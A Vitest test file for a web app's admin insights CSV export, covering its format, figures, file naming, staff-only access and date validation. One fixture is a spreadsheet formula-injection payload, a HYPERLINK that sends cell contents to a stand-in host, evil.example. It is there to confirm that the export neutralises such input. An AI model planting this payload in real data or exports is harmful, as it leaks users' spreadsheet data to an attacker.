import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connectDatabase, disconnectDatabase } from "~/lib/db/client.server";
import { applyMigrations } from "~/lib/db/migrate.server";
import { loader as csvLoader } from "~/routes/admin.insights.csv";
import { loader as pageLoader } from "~/routes/admin.insights";
import { runRoute } from "../../tests/support/route-harness";
import { workerDatabaseUrl } from "../../tests/support/worker-database";
import { noSteps, type InsightsReport } from "./report";
import { INSIGHTS_CSV_HEADER, insightsCsv, insightsCsvName } from "./report-csv.server";
import { presetPeriod } from "./report-range";
import { businessDay } from "./visitor.server";

const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

const REPORT: InsightsReport = {
  period: presetPeriod(7, "2027-03-10"),
  headline: {
    visitors: { current: 12, previous: 4 },
    views: { current: 24, previous: 9 },
    converted: { current: 4, previous: 1 },
    notFound: { current: 4, previous: 0 },
    steps: {
      audit_started: { current: 3, previous: 4 },
      audit_finished: { current: 1, previous: 0 },
      call_booked: { current: 3, previous: 1 },
      contact_stored: { current: 1, previous: 0 },
      call_held: { current: 1, previous: 0 },
      won: { current: 1, previous: 0 },
    },
  },
  days: [{ day: "2027-03-10", visitors: 4, views: 5 }],
  pages: [{ path: "/services", views: 6, visitors: 4 }],
  entries: [{ path: "/", visits: 6 }],
  sources: [
    {
      source: "newsletter",
      medium: "email",
      visits: 4,
      steps: { ...noSteps(), call_booked: 1, contact_stored: 1 },
      converted: 2,
      rate: 0.5,
    },
    { source: "", medium: "", visits: 0, steps: { ...noSteps(), audit_started: 1 }, converted: 0, rate: null },
  ],
  campaigns: [{ campaign: HOSTILE, visits: 3, steps: noSteps(), converted: 1, rate: 1 / 3 }],
  devices: [{ name: "desktop", visits: 7 }],
  browsers: [{ name: "Chrome", visits: 7 }],
  notFound: [{ path: "/+1-404-555-0142", referrer: "@evil.example", hits: 3, visitors: 2 }],
};

const rows = (csv: string): string[][] => parse(csv, { bom: true, record_delimiter: "\r\n" });
const find = (csv: string, section: string, name: string, measure: string) =>
  rows(csv).find((row) => row[0] === section && row[1] === name && row[3] === measure);

describe("the insights CSV", () => {
  it("is one long table: a BOM, the header, CRLF records, every figure with its section", () => {
    const csv = insightsCsv(REPORT);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    expect(csv.replace(/\r\n/g, "").includes("\n")).toBe(false);
    expect(rows(csv)[0]).toEqual([...INSIGHTS_CSV_HEADER]);
    expect(rows(csv).slice(1, 4)).toEqual([
      ["Totals", "Visitors", "2027-03-04 to 2027-03-10", "This period", "12"],
      ["Totals", "Visitors", "2027-02-25 to 2027-03-03", "Period before", "4"],
      ["Totals", "Visitors", "", "Change (%)", "200"],
    ]);
    expect(find(csv, "Totals", "Audits started", "Change (%)")).toEqual([
      "Totals",
      "Audits started",
      "",
      "Change (%)",
      "-25",
    ]);
    // Nothing before: no percentage to give.
    expect(find(csv, "Totals", "Won", "Change (%)")?.[4]).toBe("");
    expect(find(csv, "Day", "2027-03-10", "Page views")?.[4]).toBe("5");
    expect(find(csv, "Sources", "newsletter", "Conversion rate (%)")).toEqual([
      "Sources",
      "newsletter",
      "email",
      "Conversion rate (%)",
      "50",
    ]);
    expect(find(csv, "Sources", "Not known", "Audits started")?.[4]).toBe("1");
    expect(find(csv, "Sources", "Not known", "Conversion rate (%)")?.[4]).toBe("");
    // The header; 3 for each of 10 totals; 2 per day, 2 per page, 1 per entry page; 9 per source
    // and per campaign; 1 device, 1 browser; 2 per page not found.
    expect(rows(csv)).toHaveLength(1 + 30 + 2 + 2 + 1 + 2 * 9 + 9 + 1 + 1 + 2);
  });

  it("keeps visitors' text from being run as a formula, and numbers as numbers", () => {
    const csv = insightsCsv(REPORT);
    const campaign = rows(csv).find((row) => row[0] === "Campaigns")!;
    expect(campaign[1]).toBe(`'${HOSTILE}`);
    expect(find(csv, "Campaigns", `'${HOSTILE}`, "Conversion rate (%)")?.[4]).toBe("33.3");
    const missing = rows(csv).find((row) => row[0] === "Pages not found")!;
    expect(missing.slice(1, 3)).toEqual(["/+1-404-555-0142", "'@evil.example"]);
    // Text is quoted, numbers are not (a negative change stays a number a spreadsheet can read).
    expect(csv).toContain('"Totals","Audits started","","Change (%)",-25\r\n');
  });

  it("is named for its period", () => {
    expect(insightsCsvName(REPORT)).toBe("insights-2027-03-04-to-2027-03-10.csv");
  });
});

describe("the insights routes", () => {
  beforeAll(async () => {
    const db = connectDatabase(workerDatabaseUrl());
    await applyMigrations(db, path.resolve(import.meta.dirname, "../../drizzle"));
  });
  afterAll(() => disconnectDatabase());

  it("are for staff only", async () => {
    const download = await runRoute(csvLoader, { admin: null, path: "/admin/insights.csv" });
    const page = await runRoute(pageLoader, { admin: null, path: "/admin/insights" });
    expect(download.outcome).toMatchObject({ thrown: { init: { status: 403 } } });
    expect(page.outcome).toMatchObject({ thrown: { init: { status: 403 } } });
  });

  it("download a period as text/csv under its own name", async () => {
    const { outcome } = await runRoute(csvLoader, { path: "/admin/insights.csv?from=2025-01-01&to=2025-01-07" });
    const answer = (outcome as { returned: Response }).returned;
    expect(answer.status).toBe(200);
    expect(answer.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(answer.headers.get("Content-Disposition")).toBe(
      'attachment; filename="insights-2025-01-01-to-2025-01-07.csv"',
    );
    expect(answer.headers.get("Cache-Control")).toBe("private, no-store");
    const csv = await answer.text();
    expect(rows(csv)[1]).toEqual(["Totals", "Visitors", "2025-01-01 to 2025-01-07", "This period", "0"]);
  });

  it("explain dates they cannot use, with a 400 and never a server error", async () => {
    const download = await runRoute(csvLoader, { path: "/admin/insights.csv?from=2025-02-30&to=2025-01-01" });
    const answer = (download.outcome as { returned: Response }).returned;
    expect(answer.status).toBe(400);
    expect(answer.headers.get("Content-Type")).toBe("text/plain; charset=utf-8");
    expect(await answer.text()).toBe(
      "The report was not made: its dates are not valid.\n" +
        "From: “2025-02-30” is not a date: use the form YYYY-MM-DD, like " +
        businessDay(new Date()) +
        ".\nGo back to the insights page, fix the dates and download again.\n",
    );

    const page = await runRoute(pageLoader, { path: "/admin/insights?from=2025-03-02&to=2025-03-01" });
    expect(page.outcome).toMatchObject({
      returned: {
        init: { status: 400 },
        data: {
          state: "invalid",
          errors: { to: "The end date comes before the start date (2025-03-02)." },
          values: { from: "2025-03-02", to: "2025-03-01" },
        },
      },
    });
  });
});
